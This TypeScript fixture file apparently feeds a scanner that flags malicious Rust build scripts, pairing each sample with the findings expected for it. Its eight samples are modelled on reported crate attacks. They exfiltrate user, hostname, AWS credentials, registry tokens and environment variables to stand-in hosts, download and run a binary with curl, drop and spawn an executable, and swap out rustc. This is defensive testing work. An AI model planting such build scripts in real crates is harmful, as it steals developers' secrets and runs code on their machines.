/** Attacks that happened, whose code runs when the crate is built: before any test, and in an editor that builds. */
import { crate, type Pair } from './pair.js'

const LATE = 'It runs with `cargo build`, and in an editor that builds: look at the crate before that.'
const BUILD = 'fn main() { println!("cargo:rerun-if-changed=build.rs"); }\n'
const PLAIN = 'pub fn get(url: &str) -> usize { url.len() }\n'
const before = { ...crate('app', PLAIN), 'app/build.rs': BUILD }

export const WHEN_BUILT: readonly Pair[] = [
  {
    name: 'request',
    behaviour: 'A build script that asks who builds it, tells an address, and on Windows starts a program',
    seen: 'rewqest, 2022',
    before: crate('app', PLAIN),
    attack: {
      'app/build.rs': `use std::io::Write;
fn main() {
    let user = std::process::Command::new("whoami").output().map(|o| o.stdout).unwrap_or_default();
    if let Ok(mut stream) = std::net::TcpStream::connect("203.0.113.9:4444") { let _ = stream.write_all(&user); }
    #[cfg(windows)] let _ = std::process::Command::new("calc.exe").spawn();
}
`,
    },
    analyze: 'when built certain exec request',
    diff: '+ exec new, 2 sites when built',
    refused: ['request: build exec', 'request: build network/connect', 'request: build network/resolve'],
    values: ['exec calc.exe', 'exec whoami', 'network/connect 203.0.113.9:4444', 'network/resolve 203.0.113.9:4444'],
    but: LATE,
  },
  {
    name: 'poisoner',
    behaviour: 'A build script that puts another program in the place of the compiler',
    seen: 'poisoning-rustc, 2022',
    before,
    attack: {
      'app/build.rs': `fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let rustc = std::env::var("RUSTC").unwrap();
    let _ = std::fs::rename(&rustc, format!("{rustc}.real"));
    let _ = std::fs::write(&rustc, "#!/bin/sh\\nexec \\"$0.real\\" \\"$@\\"\\n");
}
`,
    },
    analyze: 'when built certain fs/write poisoner',
    diff: '+ fs/write new, 2 sites when built',
    refused: ['poisoner: build fs/write', 'poisoner: build env/read'],
    values: ['fs/write $RUSTC', 'fs/write $RUSTC.real', 'env/read RUSTC'],
    but: LATE,
  },
  {
    name: 'typo',
    behaviour: 'Build scripts of crates with names of one letter less, that tell which machine built them',
    seen: 'lazystatic, if-cfg, envlogger, xrvrv, oncecell, serd, postgress, littest and others, 2023',
    before,
    attack: {
      'app/build.rs': `use std::io::Write;
fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let body = format!("{}/{}/{}", std::env::consts::OS, std::env::var("USER").unwrap_or_default(),
        std::fs::read_to_string("/etc/hostname").unwrap_or_default());
    if let Ok(mut stream) = std::net::TcpStream::connect("bot.example.com:443") { let _ = stream.write_all(body.as_bytes()); }
}
`,
    },
    analyze: 'when built certain network/connect typo',
    diff: '+ network/connect new, 2 sites when built',
    refused: [
      'typo: build network/connect',
      'typo: build network/resolve',
      'typo: build fs/read',
      'typo: build env/read',
    ],
    values: [
      'network/connect bot.example.com:443',
      'network/resolve bot.example.com:443',
      'fs/read /etc/hostname',
      'env/read USER',
    ],
    but: LATE,
  },
  {
    name: 'dropped-program',
    behaviour: 'A program that the crate brings along, written out and started on Windows only',
    seen: 'eighteen crates of three clusters, 2023',
    before: crate('app', PLAIN),
    attack: {
      'app/build.rs': `fn main() {
    #[cfg(windows)] {
        let file = std::env::temp_dir().join("update.exe");
        let _ = std::fs::write(&file, include_bytes!("assets/logo.bin"));
        let _ = std::process::Command::new(&file).spawn();
    }
}
`,
      'app/assets/logo.bin': 'MZ\u0000harmless\u0000',
    },
    analyze: 'when built certain exec dropped-program',
    diff: '+ exec new, 1 site when built only on Windows',
    refused: ['dropped-program: build exec', 'dropped-program: build fs/write', 'dropped-program: build env/read'],
    values: ['exec $TMPDIR/update.exe', 'fs/write $TMPDIR/update.exe'],
    but: LATE,
  },
  {
    name: 'seed',
    behaviour: 'An object file that the build script has linked into whatever uses the crate',
    seen: 'rands, 2025',
    before,
    attack: {
      'app/build.rs': `fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    println!("cargo:rustc-link-arg=native/seed.o");
}
`,
      'app/native/seed.o': '\u007fELF\u0002\u0001\u0001\u0000harmless',
    },
    analyze: 'when built certain build/link seed',
    diff: '+ build/link new, 1 site when built',
    refused: ['seed: build build/link'],
    values: [],
    but: 'What the object file does is not read: that it is there and linked is all that is said.',
  },
  {
    name: 'changelog',
    behaviour: 'A build script that downloads a program and starts it',
    seen: 'pretty-changelog-logger, 2026',
    before,
    attack: {
      'app/build.rs': `fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let file = format!("{}/helper", std::env::var("OUT_DIR").unwrap());
    let _ = std::process::Command::new("curl").args(["-fsSL", "https://get.example.com/helper", "-o"]).arg(&file).status();
    let _ = std::process::Command::new("chmod").arg("+x").arg(&file).status();
    let _ = std::process::Command::new(&file).spawn();
}
`,
    },
    analyze: 'when built certain exec changelog',
    diff: '+ exec new, 3 sites when built',
    refused: ['changelog: build exec', 'changelog: build env/read'],
    values: ['exec chmod', 'exec curl', 'exec $OUT_DIR/helper', 'env/read OUT_DIR'],
    but: LATE,
  },
  {
    name: 'metrics',
    behaviour: 'A build script that sends keys of the one who builds: a file and variables',
    seen: 'mysten-metrics and sui-execution-cut, 2026',
    before,
    attack: {
      'app/build.rs': `use std::io::Write;
fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let home = std::env::var("HOME").unwrap_or_default();
    let mut body = std::fs::read(format!("{home}/.aws/credentials")).unwrap_or_default();
    body.extend(std::env::var("CARGO_REGISTRY_TOKEN").unwrap_or_default().bytes());
    if let Ok(mut stream) = std::net::TcpStream::connect("metrics.example.com:443") { let _ = stream.write_all(&body); }
}
`,
    },
    analyze: 'when built certain network/connect metrics',
    diff: '+ network/connect new, 2 sites when built',
    refused: [
      'metrics: build network/connect',
      'metrics: build network/resolve',
      'metrics: build fs/read',
      'metrics: build env/read',
    ],
    values: [
      'network/connect metrics.example.com:443',
      'network/resolve metrics.example.com:443',
      'fs/read $HOME/.aws/credentials',
      'env/read CARGO_REGISTRY_TOKEN',
      'env/read HOME',
    ],
    but: LATE,
  },
  {
    name: 'indexer',
    behaviour:
      'The build script of a member of a workspace, changed by who got at its build server: the environment as a paste',
    seen: 'tycho-indexer, 2026',
    before: {
      ...crate(
        'app',
        'pub fn index() -> usize { proto::get("x") }\n',
        '[dependencies]\nproto = { path = "../proto" }\n',
      ),
      ...crate('proto', PLAIN),
      'proto/build.rs': BUILD,
    },
    attack: {
      'proto/build.rs': `use std::process::{Command, Stdio};
fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let body: String = std::env::vars().map(|(name, value)| format!("{name}={value} ")).collect();
    let _ = Command::new("curl").args(["-X", "POST", "https://api.example.com/gists", "-d"]).arg(body).stdout(Stdio::null()).status();
}
`,
    },
    analyze: 'when built certain exec proto',
    diff: '+ exec new, 1 site when built',
    refused: ['proto: build exec', 'proto: build env/read'],
    values: ['exec curl'],
    but: LATE,
  },
]
